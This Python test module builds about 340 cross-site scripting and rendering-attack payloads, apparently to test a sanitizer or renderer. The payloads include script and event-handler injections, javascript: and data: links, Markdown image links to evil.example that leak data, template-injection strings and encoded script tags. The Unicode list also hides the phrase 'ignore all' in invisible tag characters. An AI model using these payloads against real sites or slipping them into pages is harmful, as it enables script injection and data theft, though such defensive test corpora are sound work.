"""Texts that attack whoever shows them: written for this project, by family, some 340 of them.

Each tries to set `window.pwned`, to open a dialog, or to fetch from another origin.
"""

EVIL = "http://evil.example"
RUN = "window.pwned=1;alert(1)"

TAGS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\n>{RUN}</script >", f"<script/x>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>", f"<script src=//evil.example/x.js></script>", f"<script type=module>{RUN}</script>",
    f"<<script>{RUN}//<</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"</pre></code></div><script>{RUN}</script>", f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=9 y=9>x</text></a></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>", f"<img src=x onerror={RUN}>", f"<img src={EVIL}/pixel.gif>", f"<img src=x: onerror={RUN}//",
    f"<img srcset={EVIL}/a.png>", f"<image src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>",
    f"<picture><source srcset={EVIL}/p.png><img src=x onerror={RUN}></picture>", f"<video src=x onerror={RUN}></video>",
    f"<video poster={EVIL}/poster.png></video>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>", f"<object data=javascript:{RUN}></object>", f"<object data={EVIL}/x.swf></object>",
    f"<embed src=javascript:{RUN}>", f"<embed src={EVIL}/x>", f"<applet code=x archive={EVIL}/x.jar></applet>",
    f"<link rel=stylesheet href={EVIL}/x.css>", f"<link rel=preload as=script href={EVIL}/x.js>", f"<link rel=dns-prefetch href={EVIL}>",
    f"<style>@import '{EVIL}/x.css';</style>", f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
    f"<style>*{{animation-name:x}}@keyframes x{{}}</style><b onanimationstart={RUN}>x</b>",
    f"<div style=\"background:url({EVIL}/d.png)\">x</div>", f"<div style=width:expression({RUN})>x</div>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>", f"<form action={EVIL}><button>Sign in</button></form>", f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<keygen autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>", f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href=\"java\tscript:{RUN}\">x</a>", f"<a href=\"&#106;avascript:{RUN}\">x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href={EVIL} ping={EVIL}/ping>x</a>", f"<a href=x onmouseover={RUN}>x</a>", f"<table background={EVIL}/t.png><tr><td>x</table>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<xss contenteditable autofocus onfocus={RUN}>x</xss>",
    f"<b onclick={RUN}>x</b>", f"<x onclick={RUN}>x", f"<plaintext>", f"<!--<img src=x onerror={RUN}>-->", f"<!doctype html><html><script>{RUN}</script>",
    f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<custom-element onconnected={RUN}></custom-element>", f"<gleaner-feedback onclick={RUN}></gleaner-feedback>", f"<portal src={EVIL}>", f"<frameset onload={RUN}>",
]

# Out of an attribute, a string, a comment; with what a sloppy escape lets pass.
QUOTES = [
    f"{mark}{extra}{handler}{end}"
    for mark in ['"', "'", "`", '"\u0301', "'\u0301", "\"\u200d", "&quot;", "&#34;", "\\\"", "\\'", "\u2019", "\uff02"]
    for extra in ["", ">", "/>"]
    for handler, end in [(f" autofocus onfocus={RUN} x=", ""), (f"<img src=x onerror={RUN}>", ""), (f";{RUN};//", "")]
]

# In links, where markup of links is rendered.
SCHEMES = [
    f"[x]({target})" for target in [
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java%0ascript:{RUN}", f"java\u0000script:{RUN}".replace("\u0000", ""),
        f"javascript&colon;{RUN}", f"&#x6A;avascript:{RUN}", f"vbscript:msgbox(1)", f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"data:text/html,<script>{RUN}</script>", "file:///etc/passwd", "blob:http://x/1", "//evil.example", "http:evil.example", "\\\\evil.example\\x",
        f"http://x\" onmouseover=\"{RUN}", f"http://x' onmouseover='{RUN}", f"http://x)({RUN}", f"https://good.example@evil.example/", "https://xn--e1awd7f.example",
    ]
]
MARKDOWN = [
    f"![x]({EVIL}/leak.png)", f"![x]({EVIL}/leak.png \"title\")", f"![x][1]\n\n[1]: {EVIL}/leak.png", f"[![x]({EVIL}/a.png)]({EVIL})", f"<{EVIL}/auto>",
    f"[x]: javascript:{RUN}\n[x]", f"[a](<javascript:{RUN}>)", f"`<img src=x onerror={RUN}>`", f"```html\n<script>{RUN}</script>\n```", f"~~~\n</code></pre><script>{RUN}</script>\n~~~",
    f"```\"><script>{RUN}</script>\nx\n```", f"# <img src=x onerror={RUN}>", f"- <img src=x onerror={RUN}>", f"> <svg onload={RUN}>", f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
    f"**<b onclick={RUN}>x</b>**", f"[<img src=x onerror={RUN}>](http://x)", f"[x](http://x '<img src=x onerror={RUN}>')", f"<http://x\" onclick={RUN}>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\<script>{RUN}\\</script>", f"[x](\njavascript:{RUN})", f"![](data:image/svg+xml,<svg onload={RUN}>)", f"[toc]\n<script>{RUN}</script>", f"$$<script>{RUN}</script>$$",
]
TEMPLATES = [
    "{{7*7}}", "{{{raw}}}", "{{&raw}}", "{{#page}}{{csrf}}{{/page}}", "{{csrf}}", "{{> layout}}", "{{=<% %>=}}<% csrf %>", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include x %}", "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}", "%{7*7}", "@{7*7}", "{{% CONTENT_TYPE:TEXT}}{{csrf}}", "{{/page}}{{csrf}}", "{{$main}}x{{/main}}", "__proto__", "constructor",
]
# What deceives or breaks a reader.
SHAPES = [
    "\u202egnp.exe", "\u2066abc\u2069", "a\u200bb", "\ufeffx", "\u00adx", "x\u0085y", "x\u2028y", "x\u2029y", "\x1b[31mred", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x07\x08",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all"), "e" + "\u0301" * 2000, "\u0e01" + "\u0e33" * 500, "W" * 20_000, "\u202b" * 200 + "x", "\U0001F468\u200D\U0001F469\u200D\U0001F467" * 50,
    "\u0915\u094d\u0937\u093f" * 300, "\u0645\u0631\u062d\u0628\u0627 <b>\u0639\u0627\u0644\u0645</b>", "\ud7ff\ue000", "\ufffe\uffff", "\u2800", "\u3164", "\u115f\u1160",
]
# On every entity, control character and case that a filter might forget.
ENCODED = [
    f"{lead}script{mid}>{RUN}{close}"
    for lead in ["&lt;", "&#60;", "&#x3c;", "&#0000060", "\\x3c", "\\u003c", "%3C", "\uff1c", "+ADw-", "<\u0000".replace("\u0000", "\u0001")]
    for mid in ["", "\u0009", "\u000c", "/"]
    for close in ["</script>", "&lt;/script&gt;"]
]

ALL = list(dict.fromkeys(TAGS + QUOTES + SCHEMES + MARKDOWN + TEMPLATES + SHAPES + ENCODED))
assert len(ALL) >= 300, len(ALL)
